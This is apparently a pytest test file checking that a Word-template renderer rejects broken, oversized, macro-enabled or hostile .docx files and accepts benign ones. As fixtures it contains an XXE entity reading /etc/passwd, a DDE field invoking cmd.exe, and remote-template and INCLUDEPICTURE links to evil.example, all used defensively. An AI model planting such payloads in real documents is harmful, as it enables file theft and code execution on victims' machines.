"""Word templates that are none, or that would carry something into every document made from them."""

import io
import zipfile
from hashlib import shake_128
from pathlib import Path

import pytest
from packages import with_parts
from rendering import real_plan
from word_documents import MAIN, TEMPLATES, part, word

from rbplan.render import template_file
from rbplan.render.own.folder import read_own
from rbplan.render.own.inspect import inspect_template
from rbplan.render.own.inspected import Inspected
from rbplan.render.problem import TemplateProblem

GOOD = (TEMPLATES / "lampiran.docx").read_bytes()
TYPES = "[Content_Types].xml"
RELATIONS = "word/_rels/document.xml.rels"
OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"


def refused(content: bytes, folder: Path, name: str = "lampiran.docx") -> tuple[str, str, object]:
    (folder / name).write_bytes(content)
    with pytest.raises(TemplateProblem) as caught:
        word(real_plan(), templates=folder)
    return caught.value.cause, str(caught.value.arguments["template"]), caught.value.arguments["reason"]


def related(kind: str, target: str, mode: str = ' TargetMode="External"') -> bytes:
    relation = f'<Relationship Id="rId99" Type="{kind}" Target="{target}"{mode}/></Relationships>'
    return with_parts(GOOD, {RELATIONS: part(GOOD, RELATIONS).replace(b"</Relationships>", relation.encode())})


def instructed(field: str) -> bytes:
    return with_parts(GOOD, {MAIN: part(GOOD).replace(b"<w:body>", f"<w:body><w:p>{field}</w:p>".encode())})


def zipped(**parts: bytes) -> bytes:
    stream = io.BytesIO()
    with zipfile.ZipFile(stream, "w", zipfile.ZIP_DEFLATED) as package:
        for name, content in parts.items():
            package.writestr(name, content)
    return stream.getvalue()


@pytest.mark.parametrize(
    ("content", "cause"),
    [
        (b"", "word.broken"),
        (b"hello", "word.broken"),
        (GOOD[:-200], "word.broken"),
        (zipped(a=b"<a/>"), "word.broken"),
        (zipped(**{TYPES: b"<a/>"}), "word.broken"),
        (zipped(**{TYPES: part(GOOD, TYPES)}), "word.broken"),
        (with_parts(GOOD, {MAIN: b"<w:document"}), "word.broken"),
        (with_parts(GOOD, {MAIN: b"<a/>"}), "word.broken"),
        (with_parts(GOOD, {"word/styles.xml": b"<"}), "word.broken"),
        (with_parts(GOOD, {RELATIONS: b"<"}), "word.broken"),
        (with_parts(GOOD, {"_rels/.rels": b"<a/>"}), "word.broken"),
        (bytes.fromhex("D0CF11E0A1B11AE1") + b"\0" * 600, "word.locked"),
        (with_parts(GOOD, {MAIN: b"<!DOCTYPE a [<!ENTITY b 'c'>]>" + part(GOOD)}), "word.entities"),
        (with_parts(GOOD, {"customXml/item1.xml": b"<!DOCTYPE a SYSTEM 'file:///etc/passwd'><a/>"}), "word.entities"),
        (zipped(**{f"{number}.xml": b" " * 1_000_000 for number in range(20)}), "word.large"),
        (zipped(**{f"x/{number}.xml": b"<a/>" for number in range(1_100)}), "word.large"),
        (instructed(f"<w:r><w:t>{'x' * 2_000_001}</w:t></w:r>"), "word.large"),
        (with_parts(GOOD, {"word/vbaProject.bin": b"\xcc\x61" * 9}), "word.macros"),
        (with_parts(GOOD, {"word/embeddings/oleObject1.bin": b"x"}), "word.macros"),
        (with_parts(GOOD, {"word/activeX/activeX1.xml": b"<a/>"}), "word.macros"),
        (
            with_parts(GOOD, {TYPES: part(GOOD, TYPES).replace(b"document.main", b"document.macroEnabled.main")}),
            "word.macros",
        ),
        (related(f"{OFFICE}/aFChunk", "teks.html", ""), "word.macros"),
    ],
)
def test_what_is_no_template(content: bytes, cause: str, tmp_path: Path) -> None:
    assert refused(content, tmp_path) == (cause, "lampiran.docx", "")


@pytest.mark.parametrize(
    ("kind", "target"),
    [
        ("attachedTemplate", "https://evil.example/a.dotm"),
        ("image", "\\\\evil.example\\a.png"),
        ("subDocument", "file:///c:/a.docx"),
        ("hyperlink", "file:///c:/a.exe"),
    ],
)
def test_nothing_is_fetched_from_outside(kind: str, target: str, tmp_path: Path) -> None:
    assert refused(related(f"{OFFICE}/{kind}", target), tmp_path) == ("word.external", "lampiran.docx", target)


@pytest.mark.parametrize(
    "field",
    [
        '<w:fldSimple w:instr=" INCLUDETEXT &quot;c:\\a.docx&quot; "/>',
        "<w:r><w:instrText>DDE</w:instrText></w:r><w:r><w:instrText>AUTO c:\\cmd.exe</w:instrText></w:r>",
        "<w:r><w:instrText xml:space='preserve'> includepicture http://evil.example </w:instrText></w:r>",
        "<w:r><w:instrText> LINK Excel.Sheet </w:instrText></w:r>",
        "<w:r><w:instrText> HYPERLINK {{ satker.nama }} </w:instrText></w:r>",
    ],
)
def test_no_field_fetches_or_runs_anything(field: str, tmp_path: Path) -> None:
    cause, file, reason = refused(instructed(field), tmp_path)
    assert (cause, file) == ("word.field", "lampiran.docx")
    assert str(reason)


@pytest.mark.parametrize(
    "content",
    [
        related(f"{OFFICE}/hyperlink", "https://kota-metro.kpu.go.id"),
        instructed('<w:r><w:instrText> HYPERLINK "https://kota-metro.kpu.go.id" </w:instrText></w:r>'),
        instructed('<w:fldSimple w:instr=" NUMPAGES "/>'),
    ],
)
def test_what_an_office_may_put_in(content: bytes, tmp_path: Path) -> None:
    (tmp_path / "lampiran.docx").write_bytes(content)
    assert word(real_plan(), templates=tmp_path)


@pytest.mark.parametrize("suffix", [".docm", ".dotm"])
def test_a_file_with_macros_is_not_passed_over_in_silence(suffix: str, tmp_path: Path) -> None:
    assert refused(GOOD, tmp_path, f"lampiran{suffix}") == ("word.macros", f"lampiran{suffix}", "")
    (tmp_path / "lampiran.docx").write_bytes(GOOD)
    assert word(real_plan(), templates=tmp_path)


def test_a_template_of_six_megabytes_is_rendered_checked_and_compared(tmp_path: Path) -> None:
    content = with_parts(GOOD, {"word/media/lambang.png": shake_128(b"lambang").digest(6_000_000)})
    (tmp_path / "lampiran.docx").write_bytes(content)
    assert word(real_plan(), templates=tmp_path)
    assert inspect_template("lampiran.docx", [tmp_path]) == Inspected()
    assert read_own("lampiran.docx", tmp_path) == content


def test_a_file_that_is_too_large_is_not_read(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(template_file, "_LARGEST_WORD", len(GOOD) - 1)
    assert refused(GOOD, tmp_path) == ("word.large", "lampiran.docx", "")
    found = inspect_template("lampiran.docx", [tmp_path]).problem
    assert (found and found.cause, found and found.arguments["template"]) == ("word.large", "lampiran.docx")


def test_a_template_that_is_nowhere(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr("rbplan.render.document.builtin_templates", lambda: tmp_path)
    with pytest.raises(TemplateProblem) as caught:
        word(real_plan())
    assert (caught.value.cause, caught.value.arguments["template"]) == ("missing", "lampiran.docx")


def test_flipped_bytes_are_refused_or_make_a_document(tmp_path: Path) -> None:
    causes = set()
    for position in range(0, len(GOOD), len(GOOD) // 40):
        damaged = GOOD[:position] + bytes([GOOD[position] ^ 0xFF]) + GOOD[position + 1 :]
        (tmp_path / "lampiran.docx").write_bytes(damaged)
        try:
            word(real_plan(), templates=tmp_path)
        except TemplateProblem as problem:
            causes.add(problem.cause)
    # A length that was flipped is a large one.
    assert {"word.broken"} <= causes <= {"word.broken", "word.large"}
